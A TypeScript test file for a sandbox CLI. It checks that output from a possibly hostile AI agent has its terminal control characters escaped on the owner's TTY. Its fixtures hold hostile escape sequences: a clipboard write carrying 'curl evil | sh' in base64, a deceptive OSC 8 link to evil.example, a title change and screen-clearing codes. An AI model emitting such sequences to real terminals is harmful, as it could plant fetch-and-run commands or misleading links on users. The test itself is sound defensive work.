// Security (hostile agent): text from the sandbox — an agent's answer, a command's output, the
// sandbox's record, a failed run's message — cannot act on the owner's terminal. On a TTY its
// control characters are shown escaped (OSC 52 clipboard, OSC 0 title, OSC 8 links, CSI clear,
// C1 CSI, bidi overrides, a lone \r); \n and \t pass, \r\n is a newline. `--raw` and a pipe get
// the bytes as sent; `terminal` stays raw like ssh.
import { rmSync } from 'node:fs';
import { mkdtemp } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { PassThrough } from 'node:stream';
import { generatePrivateKey, privateKeyToAccount } from 'viem/accounts';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { runCliInProcess } from '../testing/cli-harness.ts';
import { type SpecOperator, startSpecOperator } from '../testing/spec-operator.ts';
import { escapeForTerminal, terminalSafe } from './tty-safe.ts';

const key = generatePrivateKey();
const owner = privateKeyToAccount(key);
const ESC = '\x1b';
// Clipboard (OSC 52, "curl evil | sh" in base64), title (OSC 0), a link whose text lies (OSC 8),
// clear screen + home (CSI), and CSI as the 8-bit C1 control.
const CLIPBOARD = `${ESC}]52;c;Y3VybCBldmlsIHwgc2g=\x07`;
const TITLE = `${ESC}]0;pwned\x07`;
const LINK = `${ESC}]8;;https://evil.example/${ESC}\\https://github.com${ESC}]8;;${ESC}\\`;
const CLEAR = `${ESC}[2J${ESC}[H`;
const HOSTILE = `ok ${CLIPBOARD}${TITLE}${LINK}${CLEAR}\x9b2J\u202Eevil\u202C\tend`;

let op: SpecOperator;
let configDir: string;
beforeEach(async () => {
  op = await startSpecOperator();
  op.sandboxes.set('sb-1', {
    id: 'sb-1',
    owner: owner.address.toLowerCase(),
    state: 'running',
    secrets: {},
    name: `box${TITLE}`,
  });
  configDir = await mkdtemp(join(tmpdir(), 'client-hostile-'));
});
afterEach(async () => {
  await op.close();
  rmSync(configDir, { recursive: true, force: true });
});

const withKey = () => ['--operator', op.url, '--private-key', key];
const cli = (argv: string[], o: { tty?: boolean; stdin?: PassThrough } = {}) =>
  runCliInProcess(argv, { configDir, ...o });
// biome-ignore lint/suspicious/noControlCharactersInRegex: looking for them is the point
const CONTROL = /[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e]/;

describe('hostile agent: sandbox text on the owner terminal', () => {
  it('prompt: the answer reaches a TTY with every escape shown, not acted on', async () => {
    op.runScript.events = [
      {
        event: 'message.part.updated',
        data: { part: { id: 'p', type: 'text', text: HOSTILE }, delta: true },
      },
      { event: 'result', data: { finalText: HOSTILE } },
    ];
    const r = await cli(['prompt', 'sb-1', ...withKey(), 'hi'], { tty: true });
    expect(r.code).toBe(0);
    expect(r.out).not.toMatch(CONTROL);
    expect(r.out).toContain('ok \\e]52;c;Y3VybCBldmlsIHwgc2g=\\a');
    expect(r.out).toContain('\\e[2J\\e[H\\x9b2J\\u202eevil\\u202c\tend\n');
  });

  it('exec: stdout on a TTY is escaped; --raw and a pipe get the bytes as sent', async () => {
    const tty = await cli(['exec', 'sb-1', ...withKey(), '--', `printf ${CLEAR}`], { tty: true });
    expect(tty.out).toBe('ran: printf \\e[2J\\e[H\n');
    const raw = await cli(['exec', 'sb-1', ...withKey(), '--raw', '--', `printf ${CLEAR}`], { tty: true });
    expect(raw.out).toBe(`ran: printf ${CLEAR}\n`);
    const piped = await cli(['exec', 'sb-1', ...withKey(), '--', `printf ${CLEAR}`]);
    expect(piped.out).toBe(`ran: printf ${CLEAR}\n`);
  });

  it("get: the sandbox's fields are escaped on a TTY", async () => {
    const r = await cli(['get', 'sb-1', ...withKey()], { tty: true });
    expect(r.code).toBe(0);
    expect(r.out).toContain('name: box\\e]0;pwned\\a\n');
    expect(r.out).not.toMatch(CONTROL);
  });

  it("a failed run's message (the agent's text) is escaped in the error line", async () => {
    op.runScript.events = [
      { event: 'run.failed', data: { run_id: 'run-1', code: 'X', message: `bad${CLIPBOARD}` } },
    ];
    const r = await cli(['prompt', 'sb-1', ...withKey(), 'hi'], { tty: true });
    expect(r.code).toBe(5);
    expect(r.err).toContain('bad\\e]52;c;');
    expect(r.err).not.toMatch(CONTROL);
  });

  it('terminal stays raw (it is a terminal, like ssh)', async () => {
    const stdin = new PassThrough();
    const running = cli(['terminal', 'sb-1', ...withKey()], { tty: true, stdin });
    await new Promise((r) => setTimeout(r, 200));
    stdin.write(`${CLEAR}exit\r`);
    const r = await running;
    expect(r.code).toBe(0);
    expect(r.out).toContain(CLEAR);
  });
});

describe('escapeForTerminal / terminalSafe', () => {
  it('keeps \\n and \\t, makes \\r\\n a newline, shows a lone \\r (it rewrites the line just printed)', () => {
    expect(escapeForTerminal('a\tb\r\nc\rd\n')).toBe('a\tb\nc\\rd\n');
    expect(escapeForTerminal('plain UTF-8 ✓ ünï')).toBe('plain UTF-8 ✓ ünï');
  });
  it('a \\r\\n split across writes is still a newline; a sequence split across writes is still escaped', () => {
    const out: string[] = [];
    const s = terminalSafe({ write: (x: string) => out.push(x), isTTY: true });
    s.write('one\r');
    s.write('\ntwo\x1b');
    s.write(']0;t\x07');
    expect(out.join('')).toBe('one\ntwo\\e]0;t\\a');
    const sink = { write: () => true };
    expect(terminalSafe(sink)).toBe(sink);
  });
});
